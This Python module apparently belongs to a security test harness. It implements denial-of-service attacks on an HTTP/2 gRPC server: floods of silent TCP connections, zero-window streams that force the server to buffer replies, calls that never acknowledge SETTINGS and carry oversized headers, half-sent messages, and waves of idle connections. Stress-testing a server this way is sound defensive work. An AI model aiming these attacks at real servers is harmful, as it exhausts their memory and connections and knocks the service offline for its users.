"""Attacks that hold the server's resources and stall: TCP connections
that never send a byte (silent), ListFeatures never read, calls on a
connection that never acknowledges SETTINGS, messages stopped halfway, and
waves of idle HTTP/2 connections.
"""

import collections
import errno
import resource
import select
import socket
import struct
import time

from h2_clients import Fleet, stream_outcome
from h2_connection import Connection
from h2_wire import (DATA, END_STREAM, GET_FEATURE, KNOWN_FEATURE,
                     LIST_FEATURES, REFLECTION_INFO, WORLD, encode_headers,
                     encode_point, encode_rectangle,
                     encode_reflection_request, error_name, frame,
                     grpc_message, grpc_request_headers, header_list_size,
                     padding_headers)


def raise_nofile_limit(needed):
    """Soft RLIMIT_NOFILE up to the hard limit; fails if that is too low."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY and hard < needed:
        raise RuntimeError(
            "need %d file descriptors, the hard limit is %d (ulimit -Hn)"
            % (needed, hard))
    if soft != hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


class SilentBurst:
    """TCP connections that never send a byte.

    "Connected" means the kernel finished the TCP handshake, which it does
    for a listening socket whether or not the server ever accepts. Closes
    by the server show as EOF or a reset on a non-blocking read.
    """

    def __init__(self, host, port, count, connect_timeout=10.0):
        raise_nofile_limit(count + 256)
        self.started = time.monotonic()
        self.connect_failures = collections.Counter()
        self.open = {}  # fd -> (socket, monotonic time connected)
        self.close_delays = []  # seconds from connect to the server's close
        self.bytes_received = 0
        self._poller = select.poll()
        pending = {}
        try:
            for _ in range(count):
                sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                sock.setblocking(False)
                code = sock.connect_ex((host, port))
                if code in (0, errno.EINPROGRESS):
                    pending[sock.fileno()] = sock
                    self._poller.register(sock, select.POLLOUT)
                else:
                    self.connect_failures[errno.errorcode.get(code)] += 1
                    sock.close()
            deadline = time.monotonic() + connect_timeout
            while pending and time.monotonic() < deadline:
                left = deadline - time.monotonic()
                for fd, _ in self._poller.poll(max(1, int(left * 1000))):
                    sock = pending.pop(fd)
                    code = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                    if code:
                        self._poller.unregister(fd)
                        self.connect_failures[errno.errorcode.get(code)] += 1
                        sock.close()
                    else:
                        self._poller.modify(fd, select.POLLIN)
                        self.open[fd] = (sock, time.monotonic())
            for fd, sock in pending.items():
                self._poller.unregister(fd)
                self.connect_failures["timed out"] += 1
                sock.close()
            self.connected = len(self.open)
            self.connect_seconds = time.monotonic() - self.started
        except BaseException:
            for sock in pending.values():
                sock.close()
            self.close()
            raise

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    def watch(self, seconds):
        """Holds the connections for `seconds`, noting which the server
        closes (anything it sends, e.g. its SETTINGS, is read and dropped)."""
        deadline = time.monotonic() + seconds
        while self.open:
            left = deadline - time.monotonic()
            if left <= 0:
                break
            for fd, _ in self._poller.poll(max(1, int(left * 1000))):
                if fd in self.open:
                    self._drain(fd)

    def _drain(self, fd):
        sock, connected_at = self.open[fd]
        while True:
            try:
                data = sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                return
            except OSError:  # ECONNRESET: closed with unread data
                data = b""
            if not data:
                self.close_delays.append(time.monotonic() - connected_at)
                self._poller.unregister(fd)
                del self.open[fd]
                sock.close()
                return
            self.bytes_received += len(data)

    def close(self):
        for sock, _ in self.open.values():
            sock.close()
        self.open.clear()

    def report(self):
        delays = sorted(self.close_delays)
        return {
            "connected": self.connected,
            "connect_failures": dict(self.connect_failures),
            "connect_seconds": round(self.connect_seconds, 3),
            "closed_by_server": len(delays),
            "close_after_seconds": {
                "min": round(delays[0], 3),
                "median": round(delays[len(delays) // 2], 3),
                "max": round(delays[-1], 3),
            } if delays else None,
            "bytes_received": self.bytes_received,
        }


def silent(host, port, count, hold_seconds, connect_timeout=10.0):
    with SilentBurst(host, port, count, connect_timeout) as burst:
        burst.watch(hold_seconds)
        return burst.report()


def _calls_never_read(host, port, path, requests, connections, hold,
                      timeout):
    """On each of `connections` connections that never read (window 0),
    one call to `path` per request of `requests` (gRPC-framed, each sent
    with END_STREAM); held `hold` s once the server has read them all.
    The report of what the server did, with how long it took to read."""
    authority = "%s:%d" % (host, port)
    block = encode_headers(grpc_request_headers(authority, path))
    with Fleet() as fleet:
        for _ in range(connections):
            fleet.add(Connection(host, port, timeout=timeout, window=0))
        # SETTINGS acknowledged both ways first, so that the window of 0
        # is in force before any call is made.
        settled = fleet.settled(timeout)
        started = time.monotonic()
        for conn in fleet.conns:
            for request in requests:
                conn.send(frame(DATA, END_STREAM, conn.open_stream(block),
                                request))
        # The server reads calls about as fast as it starts them, and a
        # whole-world ListFeatures walks the database first (2 ms each at
        # 200,000 features): 1,000 of them take it a couple of seconds.
        synced = fleet.sync(timeout * connections)
        read_seconds = time.monotonic() - started
        fleet.hold(hold)
        return dict(fleet.report(), settled=settled, synced=synced,
                    seconds_until_read=round(read_seconds, 3),
                    seconds=round(time.monotonic() - started, 3))


def list_no_read(host, port, connections=1, streams=1000, hold=10.0,
                 timeout=10.0):
    """`streams` ListFeatures calls over the whole world on each of
    `connections` connections that never read (window 0), held `hold` s
    once the server has read them all.

    The server can send no DATA at all: every answer it prepares waits in
    its memory, however large the database."""
    request = grpc_message(encode_rectangle(*WORLD))
    return _calls_never_read(host, port, LIST_FEATURES, [request] * streams,
                             connections, hold, timeout)


def reflection_no_read(host, port, connections=4, streams=1000,
                       host_bytes=4000, oversized=10,
                       oversized_bytes=10000, hold=10.0, timeout=10.0):
    """Server reflection streams on each of `connections` connections that
    never read (window 0): `streams` whose one request carries a `host` of
    `host_bytes` (every answer echoes it), and `oversized` whose request is
    bigger still, `oversized_bytes`; held `hold` s once the server has read
    them all.

    The server can send no DATA, so every answer waits in its memory; an
    oversized request can only be refused with a status (trailers are not
    flow-controlled)."""
    symbol = "routeguide.RouteGuide"
    request = grpc_message(encode_reflection_request("h" * host_bytes,
                                                     symbol))
    big = grpc_message(encode_reflection_request("h" * oversized_bytes,
                                                 symbol))
    return _calls_never_read(host, port, REFLECTION_INFO,
                             [big] * oversized + [request] * streams,
                             connections, hold, timeout)


def never_ack_settings(host, port, streams=1000, header_bytes=64 << 10,
                       hold=5.0, timeout=10.0):
    """`streams` GetFeature calls on one connection that never acknowledges
    the server's SETTINGS, each with about `header_bytes` of headers: first
    the HEADERS alone (held `hold` s: what the server keeps for them), then
    each call's request, to see which calls the server answers and how.

    A server that held its SETTINGS would refuse streams past its
    MAX_CONCURRENT_STREAMS (REFUSED_STREAM); gRPC 1.51 applies them only
    once acknowledged."""
    conn = Connection(host, port, timeout=timeout, ack_settings=False)
    with conn:
        if not conn.wait(lambda: conn.peer_settings is not None, timeout):
            raise OSError("no SETTINGS from the server within %.1f s (%s)"
                          % (timeout, conn.closed or "still open"))
        base = grpc_request_headers(conn.authority, GET_FEATURE)
        headers = base + padding_headers(header_bytes
                                         - header_list_size(base))
        block = encode_headers(headers)
        started = time.monotonic()
        for _ in range(streams):
            if not conn.usable:
                break
            conn.open_stream(block)
            # A few blocks queued here at most: the server reads slowly
            # (small receive buffer), and PINGs must still be answered.
            conn.wait(lambda: len(conn.outbuf) < 4 * len(block), timeout)
        synced = conn.ping(timeout)
        read_seconds = time.monotonic() - started
        conn.wait(lambda: not conn.usable, hold)
        held = collections.Counter(map(stream_outcome,
                                       conn.streams.values()))
        request = encode_point(*KNOWN_FEATURE)
        for stream_id, stream in conn.streams.items():
            if not stream.done and conn.usable:
                conn.send_message(stream_id, request, end_stream=True)
        conn.wait(lambda: all(s.done for s in conn.streams.values()),
                  timeout)
        answered = collections.Counter(map(stream_outcome,
                                           conn.streams.values()))
        return {"streams": len(conn.streams),
                "header_list_size": header_list_size(headers),
                "server_settings": conn.peer_settings,
                "acked": conn.acked_settings,
                "synced": synced,
                "seconds_until_read": round(read_seconds, 3),
                "after_headers": dict(held),
                "after_requests": dict(answered),
                "goaway": conn.goaway and "%s %s" % (
                    error_name(conn.goaway[0]), conn.goaway[2]),
                "closed": conn.closed or conn.write_error,
                "frames_received": dict(conn.frames_received)}


class HalfMessages:
    """`streams` GetFeature calls on each of `connections` connections,
    each sending a gRPC prefix that declares a `declared`-byte message and
    `sent` bytes of it, then nothing: held open while the connections
    answer SETTINGS and PINGs."""

    def __init__(self, host, port, connections=100, streams=100,
                 declared=100, sent=6, timeout=10.0):
        raise_nofile_limit(connections + 256)
        self.started = time.monotonic()
        self.fleet = Fleet()
        try:
            for _ in range(connections):
                self.fleet.add(Connection(host, port, timeout=timeout))
            self.settled = self.fleet.settled(timeout)
            block = encode_headers(grpc_request_headers(
                "%s:%d" % (host, port), GET_FEATURE))
            part = b"\x00" + struct.pack(">I", declared) + bytes(sent)
            for conn in self.fleet.conns:
                for _ in range(streams):
                    conn.send(frame(DATA, 0, conn.open_stream(block), part))
            self.synced = self.fleet.sync(timeout)
            self.setup_seconds = time.monotonic() - self.started
        except BaseException:
            self.fleet.close()
            raise

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    def hold(self, seconds):
        self.fleet.hold(seconds)

    def close(self):
        self.fleet.close()

    def report(self):
        return dict(self.fleet.report(), settled=self.settled,
                    synced=self.synced,
                    setup_seconds=round(self.setup_seconds, 3))


def connection_wave(host, port, count, hold, timeout=10.0):
    """`count` connections that complete the HTTP/2 handshake (preface,
    SETTINGS both ways, both acknowledged) and then idle `hold` s, answering
    PINGs, before they close."""
    raise_nofile_limit(count + 256)
    failures = collections.Counter()
    started = time.monotonic()
    with Fleet() as fleet:
        for _ in range(count):
            try:
                fleet.add(Connection(host, port, timeout=timeout,
                                     decode=False))
            except OSError as error:
                failures[error.strerror or str(error)] += 1
        connected = time.monotonic()
        handshaken = fleet.settled(timeout)
        handshake_seconds = time.monotonic() - started
        fleet.hold(hold)
        report = fleet.report()
    for key in ("streams", "outcomes", "data_bytes_received"):
        del report[key]  # none opened
    return dict(report, connect_failures=dict(failures),
                connect_seconds=round(connected - started, 3),
                handshaken=handshaken,
                handshake_seconds=round(handshake_seconds, 3),
                seconds=round(time.monotonic() - started, 3))
